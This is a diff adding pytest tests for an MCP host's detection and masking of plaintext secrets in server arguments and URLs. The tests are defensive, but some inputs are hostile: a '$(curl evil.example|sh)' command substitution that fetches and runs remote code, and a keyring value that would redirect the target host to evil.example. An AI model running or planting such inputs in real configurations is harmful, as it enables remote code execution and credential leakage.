@@ -1,0 +1,155 @@
+"""Tests for plaintext secrets in the arguments and the URL of a server: where they are, and how they are shown."""
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from mcphost.config.approval_digest import describe_server
+from mcphost.config.loader import load_config
+from mcphost.config.schema import ServerConfig
+from mcphost.config.secrets import find_moved_secrets, find_plaintext_secrets, keyring_entry_name, replace_in_config
+from mcphost.config.server_export import export_entry
+from mcphost.config.server_restrictions import has_same_target
+from mcphost.config.target_secrets import masked_argv, masked_url
+from mcphost.config.variable_references import expand_target, resolve_target
+from mcphost.errors import ConfigError
+from mcphost.host.servers.server_approval import make_question, server_warnings
+
+KEY = "sk-proj-0123456789abcdefghij"
+
+
+def found(*argv: str, url: str = "") -> list[tuple[str, str, str]]:
+    server = make_server(*argv, url=url)
+    return [(one.location, one.secret, keyring_entry_name("x", one)) for one in find_plaintext_secrets(server)]
+
+
+def make_server(*argv: str, url: str = "") -> ServerConfig:
+    command = argv[0] if argv else ""
+    return ServerConfig(name="x", command=command, args=argv[1:], url=url, source="user", file="/f/mcp.json")
+
+
+@pytest.mark.parametrize(
+    ("argv", "secret"),
+    [  # the command line; then the place, the secret, and its name in the keyring
+        (("srv", "--api-key", KEY), ("args[1]", KEY, "x-api-key")),
+        (("srv", f"--api-key={KEY}"), ("args[0]", KEY, "x-api-key")),
+        (("srv", "--password", "hunter2x"), ("args[1]", "hunter2x", "x-password")),
+        (("npx", "-y", "thing", "--token", "tvly-0123456789abcdef"), ("args[3]", "tvly-0123456789abcdef", "x-token")),
+        (("npx", "thing", "sbp_0123456789abcdef0123"), ("args[1]", "sbp_0123456789abcdef0123", "x-argument-2")),
+        (("docker", "run", "-e", "API_KEY=hunter2-9", "image"), ("args[2]", "hunter2-9", "x-api_key")),
+        (("docker", "run", "--env=API_KEY=hunter2-9", "image"), ("args[1]", "hunter2-9", "x-api_key")),
+        (
+            ("npx", "mcp-remote", "https://h.example/mcp", "--header", "Authorization: Bearer abcdefgh12345678"),
+            ("args[3]", "abcdefgh12345678", "x-authorization"),
+        ),
+        (("npx", "mcp-remote", "https://h.example/mcp?api_key=hunter2-9&a=b"), ("args[1]", "hunter2-9", "x-api_key")),
+        (("env", "PASSPHRASE=x", "API_TOKEN=hunter2-9", "srv"), ("args[1]", "hunter2-9", "x-api_token")),
+    ],
+)  # fmt: skip
+def test_a_secret_in_an_argument_is_found_and_named_after_its_option(
+    argv: tuple[str, ...], secret: tuple[str, str, str]
+) -> None:
+    assert found(*argv) == [secret]
+    shown = " ".join(masked_argv(make_server(*argv)))
+    assert secret[1] not in shown
+    assert "[hidden]" in shown
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ("srv", "--max-tokens", "100000"),
+        ("srv", "--token", "${env:TOKEN}"),
+        ("srv", "--token-file", "/etc/token"),
+        ("srv", "--token-file", "secrets.json"),
+        ("srv", "--auth", "bearer"),
+        ("srv", "--token", "$(curl evil.example|sh)"),
+        # Some runners take the word after an unknown option for the package to run.
+        ("npx", "-y", "--auth-token", "evil-package-0123456789"),
+        ("npx", "sk-proj-evil-package-0123456789"),
+        ("npm", "exec", "--api-key", "evil-package-0123456789"),
+        ("uvx", "--api-key", "evil-package-0123456789"),
+        ("env", "npx", "--api-key", "evil-package-0123456789"),
+        ("srv", "https://h.example/mcp?a=b", "key:value"),
+    ],
+)
+def test_code_paths_counts_and_references_are_no_secrets(argv: tuple[str, ...]) -> None:
+    assert found(*argv) == []
+    assert masked_argv(make_server(*argv)) == argv
+
+
+def test_each_secret_in_an_address_is_found_the_last_one_first() -> None:
+    url = "https://me:hunter2@h.example/mcp?api_key=first-one-1&x=y&token=other-one-2#f"
+    assert found(url=url) == [
+        ("url", "other-one-2", "x-token"),
+        ("url", "first-one-1", "x-api_key"),
+        ("url", "hunter2", "x-password"),
+    ]
+    assert masked_url(make_server(url=url)) == "https://me:[hidden]@h.example/mcp?api_key=[hidden]&x=y&token=[hidden]#f"
+    server = make_server(url=url)
+    for one in range(3):
+        server = replace_in_config(server, find_plaintext_secrets(server)[0], f"n{one}")
+    assert server.url == "https://me:${keyring:n2}@h.example/mcp?api_key=${keyring:n1}&x=y&token=${keyring:n0}#f"
+    assert find_plaintext_secrets(server) == ()
+
+
+def test_what_is_shown_and_stored_for_an_approval_has_no_secret_but_shows_its_change() -> None:
+    one, other = make_server("srv", "--api-key", KEY), make_server("srv", "--api-key", f"{KEY}1")
+    question = make_question(one, None)
+    assert KEY not in str((question, describe_server(one)))
+    assert describe_server(one) != describe_server(other)
+    remote = make_server(url=f"https://h.example/mcp?api_key={KEY}")
+    assert KEY not in str((make_question(remote, None), describe_server(remote)))
+    assert any("has a secret in its command line" in text for text in server_warnings(one))
+    assert any("has a secret in its URL" in text for text in server_warnings(remote))
+
+
+def load_entry(folder: Path, **entry: Any) -> ServerConfig:
+    (folder / "mcp.json").write_text(json.dumps({"mcpServers": {"x": entry}}))
+    return load_config(folder).servers[0]
+
+
+def test_the_user_may_refer_to_the_keyring_in_an_argument_and_an_address(tmp_path: Path) -> None:
+    keyring = {"a": "hunter2-secret"}.get
+    server = load_entry(tmp_path, command="srv", args=["--api-key", "${keyring:a}"])
+    assert expand_target(server, {}, keyring).args == ("--api-key", "hunter2-secret")
+    assert any("${keyring:a} in its command line" in text for text in server_warnings(server))
+    remote = load_entry(tmp_path, url="https://h.example/mcp?key=${keyring:a}")
+    assert expand_target(remote, {}, keyring).url == "https://h.example/mcp?key=hunter2-secret"
+    assert any("${keyring:a} in its URL" in text for text in server_warnings(remote))
+
+
+@pytest.mark.parametrize(
+    "url", ["https://${keyring:a}/mcp", "https://h.example${keyring:a}/", "${keyring:a}", "https://a@b${keyring:a}?c"]
+)
+def test_a_secret_never_decides_which_host_is_reached(tmp_path: Path, url: str) -> None:
+    (tmp_path / "mcp.json").write_text(json.dumps({"mcpServers": {"x": {"url": url}}}))
+    config = load_config(tmp_path)
+    assert config.servers == ()
+    assert "in its host" in config.problems[0]
+
+
+def test_a_password_before_the_host_does_not_change_the_host(tmp_path: Path) -> None:
+    server = load_entry(tmp_path, url="https://me:${keyring:a}@h.example/mcp")
+    assert expand_target(server, {}, {"a": "hunter2"}.get).url == "https://me:hunter2@h.example/mcp"
+    with pytest.raises(ConfigError, match="changes its host"):
+        expand_target(server, {}, {"a": "x@evil.example/"}.get)
+
+
+def test_a_server_of_a_project_is_compared_without_the_secret(tmp_path: Path) -> None:
+    own = load_entry(tmp_path, url="https://${env:MCPHOST_TEST_HOST:-h.example}/mcp?key=${keyring:a}")
+    assert resolve_target(own).url == "https://h.example/mcp?key="
+    assert has_same_target(own, ServerConfig(name="y", url="https://h.example/mcp", source="project"))
+
+
+def test_an_export_has_variables_instead_of_the_secrets_of_the_command_line() -> None:
+    server = make_server("srv", "--api-key", "${keyring:x-api-key}", "--password", "hunter2x")
+    exported = export_entry(server, {"command": "srv", "args": list(server.args)})
+    assert exported["args"] == ["--api-key", "${env:X_API_KEY}", "--password", "${env:PASSWORD}"]
+
+
+def test_entries_that_were_moved_out_of_the_command_line_are_known_by_their_names() -> None:
+    server = make_server("srv", "--api-key", "${keyring:x-api-key}", "--token=${keyring:other}")
+    assert find_moved_secrets(server) == ("x-api-key",)
